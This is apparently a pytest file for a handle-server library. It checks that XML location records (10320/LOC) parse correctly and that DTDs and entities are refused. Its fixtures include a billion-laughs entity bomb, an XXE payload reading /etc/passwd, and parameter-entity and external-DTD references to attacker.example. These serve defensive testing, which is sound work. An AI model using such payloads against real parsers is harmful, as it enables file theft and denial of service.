"""10320/LOC: the locations record b2handle, pyhandle and the Handle.Net proxy use, parsed
with expat and no DTD, entity or external reference ever honoured."""

from __future__ import annotations

import pytest

from idnode.errors import InvalidValue
from idnode.model import HandleValue
from idnode.service.validate import check_record
from idnode.wire.json import value_from_json, value_to_json
from idnode.wire.types import lookup
from idnode.wire.types.loc import Location, Locations, check_locations, parse_locations

PROXY_STYLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<locations chooseby="locatt,country,weighted">
  <!-- two mirrors and a JSON view -->
  <location id="0" href="https://example.org/a?x=1&amp;y=2" weight="1" country="de"/>
  <location id="1" href="https://mirror.example.org/a" weight="0.25"/>
  <location id="2" href="https://example.org/a.json" weight="0" view="json"/>
</locations>
"""
B2HANDLE = b'<locations><location href="http://bar.bar" id="0" /></locations>'

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<locations><location href="&lol3;"/></locations>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE locations [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<locations><location href="&xxe;"/></locations>"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE locations [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<locations/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE locations SYSTEM "http://attacker.example/loc.dtd">
<locations/>"""


def test_parses_weights_and_every_attribute_in_order() -> None:
    record = parse_locations(PROXY_STYLE)
    assert record.chooseby == ("locatt", "country", "weighted")
    assert [loc.href for loc in record.locations] == [
        "https://example.org/a?x=1&y=2",
        "https://mirror.example.org/a",
        "https://example.org/a.json",
    ]
    assert [loc.weight for loc in record.locations] == [1.0, 0.25, 0.0]
    assert record.locations[0].attributes == (
        ("id", "0"),
        ("href", "https://example.org/a?x=1&y=2"),
        ("weight", "1"),
        ("country", "de"),
    )
    assert record.locations[2].get("view") == "json"


def test_b2handle_record_and_default_weight() -> None:
    record = parse_locations(B2HANDLE)
    assert record == Locations((Location((("href", "http://bar.bar"), ("id", "0"))),))
    assert record.locations[0].weight == 1.0
    assert record.chooseby == ()


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL, PARAMETER, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused_before_anything_expands(doc: bytes) -> None:
    with pytest.raises(InvalidValue, match="DTD"):
        parse_locations(doc)
    with pytest.raises(InvalidValue, match="not a valid 10320/loc: locations: DTD"):
        check_record([HandleValue(1, "10320/LOC", doc)])


def test_an_undefined_entity_is_malformed_not_expanded() -> None:
    with pytest.raises(InvalidValue, match="undefined entity"):
        parse_locations(b'<locations><location href="&xxe;"/></locations>')


@pytest.mark.parametrize(
    ("doc", "rule"),
    [
        (b"<location href='x'/>", "root element must be <locations>"),
        (b"<locations><loc href='x'/></locations>", "only <location> elements"),
        (b"<locations><location href='x'><a/></location></locations>", "holds no elements"),
        (b"<locations><location id='0'/></locations>", "location[0].href"),
        (b"<locations><location href=' '/></locations>", "location[0].href"),
        (b"<locations><location href='x' weight='-1'/></locations>", "location[0].weight"),
        (b"<locations><location href='x' weight='NaN'/></locations>", "location[0].weight"),
        (b"<locations><location href='x' weight='1e999'/></locations>", "location[0].weight"),
        (b"<locations>http://x</locations>", "text outside attributes"),
        (b"<locations><location href='x'>", "not well-formed"),
        (b"", "not well-formed"),
    ],
)
def test_malformed_records_name_the_rule(doc: bytes, rule: str) -> None:
    with pytest.raises(InvalidValue) as info:
        parse_locations(doc)
    assert rule in info.value.message


def test_write_rule_stores_free_text_but_checks_documents() -> None:
    """HSJ stores any 10320/LOC text; a document that claims to be locations must parse."""
    for text in (b"https://example.org/a", b"", b"not xml <at all", "ümlaut".encode()):
        check_locations(text)
    check_locations(B2HANDLE)
    check_locations(b"\xef\xbb\xbf" + PROXY_STYLE)
    check_locations(b"\n  " + B2HANDLE)
    for broken in (b"<locations><location/></locations>", b"  <?xml version='1.0'?><x/>"):
        with pytest.raises(InvalidValue):
            check_locations(broken)
    with pytest.raises(InvalidValue, match="DTD"):
        check_locations(b"see <!DOCTYPE x> for details")


def test_rest_json_is_the_plain_string_b2handle_sends() -> None:
    sent = {"index": 5, "type": "10320/LOC", "data": B2HANDLE.decode()}
    value = value_from_json(sent, timestamp=0)
    assert value.data == B2HANDLE
    assert value_to_json(value)["data"] == {"format": "string", "value": B2HANDLE.decode()}
    with pytest.raises(InvalidValue, match="value 5: not a valid 10320/loc: locations: DTD"):
        value_from_json({**sent, "data": EXTERNAL.decode()}, timestamp=0)


def test_registered_under_both_spellings() -> None:
    assert lookup("10320/loc") is lookup("10320/LOC") is not None
